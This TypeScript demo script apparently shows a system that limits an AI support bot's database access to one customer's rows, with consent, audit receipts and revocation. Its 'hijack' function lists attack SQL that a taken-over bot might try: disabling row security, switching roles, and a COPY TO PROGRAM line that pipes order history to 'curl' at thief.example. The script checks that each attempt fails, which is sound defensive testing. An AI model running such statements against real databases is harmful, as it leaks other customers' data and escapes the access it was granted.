/**
 * Use case 2, told as it happens, on real parts: a shop with a database and an OpenID provider of its own, two customers, a
 * support bot that asks another bot, and somebody who took the support bot over. The customers' browsers are played by
 * person.ts; nothing else is played.
 *
 *     node --conditions=source examples/2-personalized/demo.ts
 */
import { mkdtempSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { DeniedError, type Session } from "@safeconduct/sdk"
import { createLog } from "@safeconduct/server/programs"
import pg from "pg"
import { detail, heading, line, revokedEntries, say, seconds, timed, verifyReceipts } from "../telling.ts"
import { ORDER_HISTORY, type OrderEdit } from "./history.ts"
import { openShop } from "./open.ts"
import { openPerson, type Page, type Person, plain } from "./person.ts"

const startedAt = performance.now()
const folder = mkdtempSync(join(tmpdir(), "safeconduct-demo-"))

say("Safeconduct, use case 2: a bot that acts for Alice, with a key to Alice's rows alone.")

heading("Setting up (what an operator does once)")
await using shop = await openShop({ folder, log: createLog({ level: "error" }), step: timed })

heading("Alice asks the bot")
const alice = openPerson()
await timed("Alice signs in to the shop, at the shop's provider", () => signIn(alice, "alice"))
const consent = await timed(`Alice: "Where is my parcel?"  →  she is asked first`, () =>
  ask(alice, "7001", "Where is my parcel?"),
)
detail(`the page: ${plain(consent.html)}`)
const parcel = await timed("Alice allows it, and the bot asks another bot", () => alice.press(consent, "Allow"))
expect(parcel, "PA-1")
detail(`the shipping bot, lent that one parcel: ${plain(parcel.html)}`)
await asks(alice, "7001", "What did I order?", "7001 Kettle, 7003 Hammock")
await asks(alice, "7001", "Please leave it with Mr Grey", "with Mr Grey")
await timed("Alice changes another order by hand, on the web site", () => editByHand(alice, "7003", "At the back door"))

heading("Bob asks the same bot")
const bob = openPerson()
await timed("Bob signs in", () => signIn(bob, "bob"))
const orders = await timed("Bob is asked, and allows it", async () =>
  bob.press(await ask(bob, "7002", "What did I order?"), "Allow"),
)
expect(orders, "7002 Accordion, 7004 Telescope")
detail(`the same SQL, which asks for every order of the shop: ${plain(orders.html)}`)

heading("The bot is hijacked, in a session for Alice")
const hijacked = await shop.sessionFor("alice", shop.agents.support, {
  request: "What did I order?",
  order: "7001",
})
await hijack(hijacked)

heading("The shop asks its own database who changed what")
for (const edit of (await shop.owner.query<OrderEdit>(ORDER_HISTORY)).rows) {
  const { order, note, who, purpose, session, through } = edit
  detail(
    `${order} "${note}": ${who}, for ${edit.for}, through ${through}${purpose === null ? "" : `, ${purpose}, ${session}`}`,
  )
}

heading("Alice has enough")
await takeBack(hijacked)

heading("What happened, provably")
const entries = await revokedEntries(shop.operator, hijacked.id)
await verifyReceipts(shop.operator, entries, shop.logKey)
const { user, application } = entries[0]!.leaf
detail(`each names the agent, for ${user}, through ${application}:`)
for (const { index, leaf } of entries) detail(`#${index}  ${leaf.event}`)
say(`\nDone in ${seconds(performance.now() - startedAt)}. Next: docs/tutorials/acting-for-alice.md.`)

async function signIn(person: Person, name: string): Promise<void> {
  const page = await person.press(await person.visit(`${shop.siteUrl}/sign-in`), `person=${name}`)
  expect(page, "Hello")
}

async function ask(person: Person, order: string, words: string): Promise<Page> {
  return await person.press(await person.visit(shop.siteUrl), `Ask about ${order}`, { words })
}

async function asks(person: Person, order: string, words: string, expected: string): Promise<void> {
  await timed(`Alice: "${words}"  →  ${expected}`, async () => expect(await ask(person, order, words), expected))
}

async function editByHand(person: Person, order: string, words: string): Promise<void> {
  const page = await person.press(await person.visit(shop.siteUrl), `Change the note of ${order}`, { words })
  expect(page, words)
}

function expect({ html, url }: Page, words: string): void {
  if (!plain(html).includes(words)) throw new Error(`${url} does not say "${words}": ${plain(html)}`)
}

/** Everything that the bot could be made to try with what it holds. Each line would throw if it came through. */
async function hijack(session: Session): Promise<void> {
  await using lease = await session.lease("shop", { operation: "read" })
  const client = new pg.Client(lease.settings)
  client.on("error", () => undefined)
  await client.connect()
  const tries = [
    "select count(*)::text as found from orders where customer = 1002",
    "select set_config('safeconduct.customer', '1002', false); select count(*)::text as found from orders where customer = 1002",
    "set row_security = off; select item as found from orders where customer = 1002",
    "select issuer as found from safeconduct.leases",
    "set session authorization shop_web",
    "copy (select * from history.order_edits) to program 'curl -d @- https://thief.example'",
  ]
  for (const sql of tries) {
    const began = performance.now()
    const said = await client.query(sql).then(
      (answers) => [answers].flat().at(-1)?.rows[0]?.found ?? "nothing",
      (error: Error & { code?: string }) => `${error.message} (${error.code})`,
    )
    line(performance.now() - began, `${sql}  →  ${said}`)
    if (/Accordion|Telescope|Bob|1002@|^[1-9]/.test(said)) throw new Error("a row of Bob's came through")
  }
  await client.end()
  const began = performance.now()
  const refused = await session.lease("shop", { operation: "write", arguments: { order: "7002" } }).then(
    () => null,
    (error: unknown) => error,
  )
  if (!(refused instanceof DeniedError)) throw new Error("a key to Bob's order was given", { cause: refused })
  line(performance.now() - began, `a key that changes Bob's order 7002  →  ${refused.message}`)
}

/** Alice ends it on her own page; the connection that the bot still has is cut. */
async function takeBack(session: Session): Promise<void> {
  const lease = await session.lease("shop", { operation: "read" })
  const client = new pg.Client(lease.settings)
  client.on("error", () => undefined)
  await client.connect()
  const lost = new Promise<number>((resolve) => client.once("end", () => resolve(performance.now())))
  const mine = await alice.visit(`${shop.webUrl}/me`)
  const pressedAt = performance.now()
  await alice.press(mine, "End")
  line((await lost) - pressedAt, "after Alice pressed the button, the bot's connection was closed")
}
